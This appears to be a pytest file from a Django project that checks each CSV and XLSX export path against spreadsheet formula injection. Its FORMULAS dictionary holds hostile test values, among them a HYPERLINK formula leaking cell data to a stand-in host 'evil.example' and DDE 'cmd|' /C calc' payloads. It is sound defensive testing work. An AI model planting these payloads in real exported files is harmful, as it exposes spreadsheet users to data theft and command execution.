"""Every place that writes a sheet: no cell of it is taken for a formula by a spreadsheet."""

import csv
import io
import re
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from django.test import Client
from python_calamine import CalamineWorkbook

from factories import CaseFactory, VictimFactory, published_together
from publication.many import body
from vigil.casefile.sheet_files.writing import to_csv, to_xlsx
from vigil.charts.figure import Figure
from vigil.charts.marks import Drawing
from vigil.charts.table import TableCell, TableRow
from vigil.fund.calls.exchange.xlsform_writing import xlsform_of
from vigil.fund.finance import audit_file
from vigil.fund.overview import export_sheets, full_export
from vigil.network.sheets import views as desk_sheets
from vigil.network.sheets.verbs.broken_rows import BrokenRow
from vigil.outlook.assessments.sheet.writing import workbook as terms_and_countries
from vigil.outlook.assessments.specs import RegionSpec, TermSpec
from vigil.outlook.index_editions import score_files
from vigil.outlook.index_editions.country_page import CountryPage
from vigil.outlook.reports import edition_files
from vigil.outlook.results import csv_files as result_files
from vigil.programme.questions.views import desk as questions
from vigil.programme.registrations.views import desk_lists

SOURCE = Path(__file__).parents[2] / "src" / "vigil"
WRITES = re.compile(r"\bcsv\.(?:writer|DictWriter)\(|\bxlsxwriter\.Workbook\(|\.write_csv\(")
FORMULAS = {
    "=": '=HYPERLINK("https://evil.example/?x="&A1,"open")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-1+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)",
    "tab": "\t=1+1",
    "CR": "\r=1+1",
}
"""One for each sign at the head of a cell that makes some spreadsheet compute."""
ANYWHERE = [*FORMULAS.values(), "x;=1+1", "\n=1+1", "=1+1", "{=1+1}"]
"""Also where a program splits at another sign than ours, and as a workbook marks a formula."""

Patch = pytest.MonkeyPatch


def of_the_fund(text: str, patch: Patch) -> bytes:
    table = export_sheets.TABLES[0]
    row = dict.fromkeys(full_export.columns_of(table), text)
    patch.setattr(full_export, "_rows", lambda table, by: [row])
    return b"".join(full_export._as_csv(table, None))  # type: ignore[arg-type]


def of_members(text: str, patch: Patch) -> bytes:
    return desk_sheets._csv([BrokenRow(1, text, text, text, text)]).content


def of_a_session(text: str, patch: Patch) -> bytes:
    return desk_lists._csv("x.csv", ["name", "address"], [[text, text]]).content


def of_questions(text: str, patch: Patch) -> bytes:
    row = SimpleNamespace(state=text, language=text, text=text)
    one = SimpleNamespace(row=row, votes=1)
    patch.setattr(questions.opening, "export_questions", lambda session, by: [one])
    return questions._export(None, {}, None).content  # type: ignore[arg-type]


def of_a_panel(text: str, patch: Patch) -> bytes:
    row = dict.fromkeys(result_files.HEADS, text)
    patch.setattr(result_files, "_rows", lambda told, one, seen: [row])
    return result_files.csv_of(SimpleNamespace(questions=[0])).encode()  # type: ignore[arg-type]


def of_a_figure(text: str, patch: Patch) -> bytes:
    row = TableRow(text, (TableCell(text),))
    return Figure("k", "t", Drawing(1, ()), (), (text, text), (row,), ()).csv().encode()


def of_a_report(text: str, patch: Patch) -> bytes:
    cell = {"value": text, "shown": text}
    return edition_files._csv({"heads": [text], "rows": [(text, [cell])]}).encode()


def of_a_country(text: str, patch: Patch) -> bytes:
    place: Any = SimpleNamespace(_csv_rows=lambda: [[text, text]])
    return CountryPage.csv(place).encode()


def of_scores(text: str, patch: Patch) -> bytes:
    row = dict.fromkeys(score_files.HEADS, text)
    patch.setattr(score_files, "score_rows", lambda source, scores: [row.values()])
    patch.setattr(score_files, "whole_scores", lambda source: SimpleNamespace(listed=[]))
    return "".join(score_files._csv_parts(None)).encode()  # type: ignore[arg-type]


def of_the_desk(text: str, patch: Patch) -> bytes:
    return to_csv([text], [[text]])


WRITERS: dict[str, Callable[[str, Patch], bytes] | str] = {
    "casefile/sheet_files/writing.py": of_the_desk,
    "casefile/releases/agreement_files.py": "names of fields, codes and figures: nobody typed them",
    "cli/match.py": "for programs: ids as they were given, and a number",
    "fund/calls/exchange/xlsform_writing.py": "below, as a workbook",
    "fund/finance/audit_file.py": "below, as a workbook",
    "fund/overview/full_export.py": of_the_fund,
    "network/sheets/views.py": of_members,
    "charts/table.py": of_a_figure,
    "outlook/answers/sheet_files.py": "a workbook, written as text: its round trip is tested",
    "outlook/assessments/sheet/writing.py": "below, as a workbook",
    "outlook/index_editions/country_page.py": of_a_country,
    "outlook/index_editions/score_files.py": of_scores,
    "outlook/results/csv_files.py": of_a_panel,
    "outlook/reports/edition_files.py": of_a_report,
    "programme/questions/views/desk.py": of_questions,
    "programme/registrations/views/desk_lists.py": of_a_session,
    "site/demonstration/rooms/index_editions.py": "for our own import: numbers that are drawn",
    "publication/downloads/files.py": "below, with the database",
    "publication/figures/files.py": "below, with the database",
}
"""Each module that writes sheets, with what makes one of a text, or why it is not asked here."""
HERE = {module: write for module, write in WRITERS.items() if not isinstance(write, str)}


def cells_of(content: bytes) -> list[str]:
    """Return the cells of a file as a spreadsheet reads them."""
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def computed(cells: list[str]) -> list[str]:
    """Return the cells that a spreadsheet would compute, here or where it splits them itself."""
    parts = [(cell, part) for cell in cells for part in (cell, *re.split(r"[;\n]", cell))]
    return [cell for cell, part in parts if part[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_every_module_that_writes_a_sheet_is_asked() -> None:
    writing = {
        str(path.relative_to(SOURCE))
        for path in SOURCE.rglob("*.py")
        if WRITES.search(path.read_text(encoding="utf-8"))
    }
    assert writing == set(WRITERS)


@pytest.mark.parametrize("module", HERE)
def test_no_cell_is_a_formula(module: str, monkeypatch: Patch) -> None:
    for text in ANYWHERE:
        cells = cells_of(HERE[module](text, monkeypatch))
        assert "".join(cells).count(text.strip()[-3:]), "the text is there"
        assert computed(cells) == [], text


def workbook(content: bytes) -> Iterator[str]:
    """Yield the texts of a workbook's cells; fail where one is anything that is computed."""
    with zipfile.ZipFile(io.BytesIO(content)) as packed:
        sheets = [name for name in packed.namelist() if name.startswith("xl/worksheets/")]
        assert sheets
        for name in sheets:
            assert not re.search(rb"<f[ >]|t=\"str\"|<hyperlink", packed.read(name)), name
    book = CalamineWorkbook.from_filelike(io.BytesIO(content))
    for name in book.sheet_names:
        for row in book.get_sheet_by_name(name).to_python():
            yield from (cell for cell in row if isinstance(cell, str))


def test_no_cell_of_a_workbook_of_the_desk_is_a_formula() -> None:
    cells = list(workbook(to_xlsx(["head", *ANYWHERE], [[str(len(ANYWHERE)), *ANYWHERE]])))
    assert len(cells) == 2 * len(ANYWHERE) + 2
    assert computed(cells) == []


def test_no_cell_of_an_audit_file_is_a_formula() -> None:
    cells = list(workbook(audit_file._workbook({"sheet": (["head"], [[one] for one in ANYWHERE])})))
    assert len(cells) == len(ANYWHERE) + 1
    assert computed(cells) == []


def test_no_cell_of_an_xlsform_is_a_formula() -> None:
    form: list[Any] = [
        {"key": f"field{n}", "kind": "text", "label": {"en": text}, "help": {"en": text}}
        for n, text in enumerate(ANYWHERE)
    ]
    cells = list(workbook(xlsform_of(form, {"en": FORMULAS["="]}, "call")))
    assert [cell for cell in cells if cell.endswith(FORMULAS["+"])], "the text is there"


def test_no_cell_of_the_sheet_of_terms_is_a_formula() -> None:
    terms = [
        TermSpec("markets", "cocaine", text=text, guidance=(text,), unit=text) for text in ANYWHERE
    ]
    regions = [RegionSpec(text, ("COL",)) for text in ANYWHERE]
    cells = list(workbook(terms_and_countries(terms, regions, {}, "en")))
    assert [cell for cell in cells if cell.endswith(FORMULAS["+"])], "the text is there"


@pytest.mark.django_db
def test_no_cell_of_the_public_record_is_a_formula(client: Client) -> None:
    with published_together():
        for text in FORMULAS.values():
            VictimFactory(case=CaseFactory(), name=text)
    asked = {"q": FORMULAS["="]}
    for cells in (
        cells_of(body(client, "/cases/cases.csv")),
        list(workbook(body(client, "/cases/cases.xlsx"))),
    ):
        assert [
            text for text in FORMULAS.values() if "'" + text.strip() not in "".join(cells)
        ] == []
        assert computed(cells) == []
    cells = cells_of(client.get("/figures/by-country/table.csv", asked).getvalue())
    assert "HYPERLINK" in "".join(cells), "the filter is in the file"
    assert computed(cells) == []
    # What was searched for stands in the workbook too: where the selection is told.
    list(workbook(client.get("/cases/cases.xlsx", asked).getvalue()))
